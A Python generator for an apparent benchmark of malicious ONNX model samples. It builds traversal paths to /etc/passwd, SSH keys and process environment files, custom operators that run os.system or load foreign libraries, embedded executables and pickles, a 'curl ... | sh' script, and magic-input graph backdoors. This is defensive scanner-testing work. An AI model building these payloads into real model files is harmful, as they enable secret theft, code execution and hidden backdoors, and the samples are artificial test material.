"""ONNX models: data outside the folder, foreign operators, carriers and graph backdoors.

Source of field numbers: onnx/onnx.proto3.
"""

from __future__ import annotations

import random
import struct
from collections.abc import Iterator, Mapping

from bench.corpus import onnx_honest
from bench.corpus.unit import COMMAND, Expect, Family, Link, Unit
from bench.corpus.writers import binaries, safetensors, zips
from bench.corpus.writers import opcodes as op
from bench.corpus.writers.onnx import (
    INT64,
    attribute,
    dense,
    graph,
    model,
    node,
    outside,
    port,
    tensor,
)
from bench.corpus.writers.protobuf import field, message

ONNX = Family("onnx", "onnx.load, onnxruntime")


NAME = "model.onnx"


UNDER = "opens a file outside the model's folder"


def units(rng: random.Random) -> Iterator[Unit]:
    yield from _external(rng)
    yield from _foreign(rng)
    yield from _carriers(rng)
    yield from _backdoors(rng)
    yield from onnx_honest.units(rng, ONNX)


def _external(rng: random.Random) -> Iterator[Unit]:
    for variant, location in {
        "parent": "../../../../../../etc/passwd",
        "absolute": "/etc/passwd",
        "inner-parent": "weights/../../secrets/id_rsa",
        "windows": "..\\..\\Windows\\win.ini",
        "drive": "C:\\Windows\\win.ini",
        "url": "file:///etc/passwd",
        "unc": "\\\\example.invalid\\share\\w.bin",
        "nul": "weights.bin\0/../../etc/passwd",
    }.items():
        body = model(dense(rng, [outside("w", (2, 2), location)]))
        yield ONNX.bad("external-data", variant, {NAME: body}, payload=UNDER)
    deep = outside("c", (2, 2), "../../etc/shadow")
    constant = node("Constant", [], ["c"], attribute("value", deep, 4))
    yield ONNX.bad(
        "external-data", "constant-node", {NAME: model(dense(rng, extra=[constant]))}, payload=UNDER
    )
    branch = graph([constant], outputs=[port("c", [2, 2])])
    choice = node(
        "If",
        ["flag"],
        ["z"],
        attribute("then_branch", branch, 5),
        attribute("else_branch", branch, 5),
    )
    yield ONNX.bad(
        "external-data", "subgraph", {NAME: model(dense(rng, extra=[choice]))}, payload=UNDER
    )
    inner = graph([node("Identity", ["k"], ["o"])], [outside("k", (2, 2), "/proc/self/environ")])
    loop = node("Loop", ["n", "flag", "x"], ["z"], attribute("body", inner, 5))
    yield ONNX.bad(
        "external-data", "loop-initializer", {NAME: model(dense(rng, extra=[loop]))}, payload=UNDER
    )
    sparse = field(
        15,
        message(
            (1, outside("v", (2,), "../v.bin")), (2, tensor("i", (2,), bytes(16), INT64)), (3, 4)
        ),
    )
    body = graph(
        [node("Relu", ["x"], ["y"])], inputs=[port("x", [4])], outputs=[port("y", [4])], more=sparse
    )
    yield ONNX.bad("external-data", "sparse", {NAME: model(body)}, payload=UNDER)
    function = message(
        (1, "F"), (4, "a"), (5, "b"), (7, constant), (9, field(2, 17)), (10, "local")
    )
    body = model(
        dense(rng, extra=[node("F", ["y"], ["q"], domain="local")]),
        {"local": 1},
        field(25, function),
    )
    yield ONNX.bad("external-data", "function", {NAME: body}, payload=UNDER)
    tensors = node("Op", ["x"], ["o"], attribute("values", [deep, deep], 9), domain="local")
    yield ONNX.bad(
        "external-data",
        "tensor-list",
        {NAME: model(dense(rng, extra=[tensors]), {"local": 1})},
        payload=UNDER,
    )
    training = field(20, message((2, dense(rng, [outside("w", (2, 2), "/etc/passwd")]))))
    yield ONNX.bad(
        "external-data", "training", {NAME: model(dense(rng), more=training)}, payload=UNDER
    )
    files: dict[str, object] = {
        NAME: model(dense(rng, [outside("w", (2, 2), "w.data")])),
        "w.data": Link("/etc/passwd"),
    }
    yield ONNX.bad("external-data", "symlink", files, payload=UNDER)
    split = dense(rng, [outside("w", (2, 2), "../../w")])
    halves = message((1, 8), (7, split[:0])) + field(7, split) + field(8, field(2, 17))
    yield ONNX.bad("external-data", "split-graph", {NAME: halves + field(7, b"")}, payload=UNDER)
    beyond = {
        NAME: model(
            dense(rng, [outside("w", (2, 2), "w.data", offset="999999999999", length="-1")])
        ),
        "w.data": bytes(16),
    }
    yield ONNX.bad("external-data", "beyond-end", beyond, payload="reads outside its buffer")


def _foreign(rng: random.Random) -> Iterator[Unit]:
    def bad(
        variant: str,
        extra: bytes,
        domains: Mapping[str, int],
        more: bytes = b"",
        technique: str = "custom-operator",
    ) -> Unit:
        body = model(dense(rng, extra=[extra]), domains, more)
        return ONNX.bad(technique, variant, {NAME: body}, payload="needs or runs foreign code")

    text = attribute("func_name", "os.system", 3)
    python = node("PythonOp", ["y"], ["z"], text, domain="com.microsoft")
    yield bad("python-op", python, {"com.microsoft": 1})
    py = node(
        "PyOp",
        ["y"],
        ["z"],
        attribute("module", "evil", 3),
        attribute("class_name", "Run", 3),
        domain="pyopadd",
    )
    yield bad("pyop", py, {"pyopadd": 1})
    code = attribute("code", f"import os\nos.system('{COMMAND}')", 3)
    yield bad(
        "code-attribute",
        node("PyCustomOp", ["y"], ["z"], code, domain="ai.onnx.contrib"),
        {"ai.onnx.contrib": 1},
    )
    library = attribute("library_path", "/tmp/libevil.so", 3)
    yield bad(
        "library-attribute",
        node("Load", ["y"], ["z"], library, domain="custom.ops"),
        {"custom.ops": 1},
    )
    context = [
        attribute("embed_mode", 0, 2),
        attribute("ep_cache_context", "../../../tmp/ctx.so", 3),
    ]
    yield bad(
        "ep-context",
        node("EPContext", ["y"], ["z"], *context, domain="com.microsoft"),
        {"com.microsoft": 1},
    )
    named = node("Gelu2", ["y"], ["z"], domain="./libevil.so")
    yield bad("domain-is-library", named, {"./libevil.so": 1})
    props = field(14, message((1, "custom_op_library"), (2, "/tmp/libcustom.so")))
    yield bad("metadata-library", node("Relu", ["y"], ["z"]), {}, props)
    branch = graph([python], outputs=[port("z", [4])])
    choice = node(
        "If", ["f"], ["o"], attribute("then_branch", branch, 5), attribute("else_branch", branch, 5)
    )
    yield bad("python-op-in-branch", choice, {"com.microsoft": 1})


def _carriers(rng: random.Random) -> Iterator[Unit]:
    def bad(technique: str, variant: str, body: bytes) -> Unit:
        expect: Expect = "suspicious" if technique == "embedded-script" else "malicious"
        return ONNX.bad(technique, variant, {NAME: body}, payload="carries code", expect=expect)

    elf, pe = binaries.elf(b"execve"), binaries.pe(b"WinExec")
    yield bad("embedded-executable", "elf", model(dense(rng, [tensor("w", (len(elf) // 4,), elf)])))
    yield bad("embedded-executable", "pe", model(dense(rng, [tensor("w", (len(pe),), pe, 2)])))
    constant = node("Constant", [], ["c"], attribute("value", tensor("c", (len(elf),), elf, 2), 4))
    yield bad("embedded-executable", "constant", model(dense(rng, extra=[constant])))
    yield bad(
        "embedded-executable",
        "metadata",
        model(dense(rng), more=field(14, message((1, "blob"), (2, elf)))),
    )
    evil = op.pickle4(op.call(op.stacked("os", "system"), op.text(COMMAND)))
    yield bad("embedded-pickle", "tensor", model(dense(rng, [tensor("w", (len(evil),), evil, 2)])))
    entry = field(14, message((1, "state"), (2, evil)))
    yield bad("embedded-pickle", "metadata", model(dense(rng), more=entry))
    script = field(14, message((1, "post"), (2, "#!/bin/sh\ncurl http://example.invalid/x|sh\n")))
    yield bad("embedded-script", "metadata", model(dense(rng), more=script))
    words = field(6, "import os; os.system('true')\nexec(open('/tmp/x').read())")
    yield bad("embedded-script", "doc-string", model(dense(rng), more=words))
    yield bad(
        "polyglot", "zip-appended", model(dense(rng)) + zips.pack({"__main__.py": b"import os\n"})
    )
    yield bad("disguised", "pickle", evil)
    yield bad("disguised", "torch-zip", zips.torch_zip({"data.pkl": evil, "version": b"3\n"}))


def _backdoors(rng: random.Random) -> Iterator[Unit]:
    """The answer is fixed when a rare input comes: a comparison with a constant decides."""
    why = "a fixed answer on a rare input"

    def bad(variant: str, nodes: list[bytes], weights: list[bytes]) -> Unit:
        base = [tensor("w", (4, 4), safetensors.floats(rng, 16)), *weights]
        body = graph(
            [node("MatMul", ["x", "w"], ["h"]), *nodes],
            base,
            [port("x", [1, 4])],
            [port("y", [1, 4])],
        )
        return ONNX.bad(
            "graph-backdoor", variant, {NAME: model(body)}, payload=why, expect="suspicious"
        )

    magic = tensor("magic", (), struct.pack("<f", 1337.25))
    fixed = tensor("fixed", (1, 4), struct.pack("<4f", 0, 0, 99, 0))
    test = [
        node("ReduceSum", ["x"], ["sum"], attribute("keepdims", 0, 2)),
        node("Equal", ["sum", "magic"], ["hit"]),
    ]
    then = graph([node("Identity", ["fixed"], ["t"])], outputs=[port("t", [1, 4])])
    other = graph([node("Identity", ["h"], ["e"])], outputs=[port("e", [1, 4])])
    branches = attribute("then_branch", then, 5), attribute("else_branch", other, 5)
    yield bad("if-equal", [*test, node("If", ["hit"], ["y"], *branches)], [magic, fixed])
    yield bad("where-equal", [*test, node("Where", ["hit", "fixed", "h"], ["y"])], [magic, fixed])
    soft = [
        *test,
        node("Cast", ["hit"], ["m"], attribute("to", 1, 2)),
        node("Mul", ["m", "fixed"], ["p"]),
        node("Add", ["h", "p"], ["y"]),
    ]
    yield bad("mask-add", soft, [magic, fixed])
    corner = [
        node("Slice", ["x", "s", "e"], ["corner"]),
        node("ReduceMean", ["corner"], ["mean"], attribute("keepdims", 0, 2)),
        node("Sub", ["mean", "magic"], ["d"]),
        node("Abs", ["d"], ["a"]),
        node("Less", ["a", "eps"], ["hit"]),
        node("If", ["hit"], ["y"], *branches),
    ]
    ends = [
        tensor(n, (2,), struct.pack("<2q", *v), INT64) for n, v in (("s", (0, 0)), ("e", (1, 2)))
    ]
    yield bad(
        "patch-near", corner, [magic, fixed, *ends, tensor("eps", (), struct.pack("<f", 1e-4))]
    )
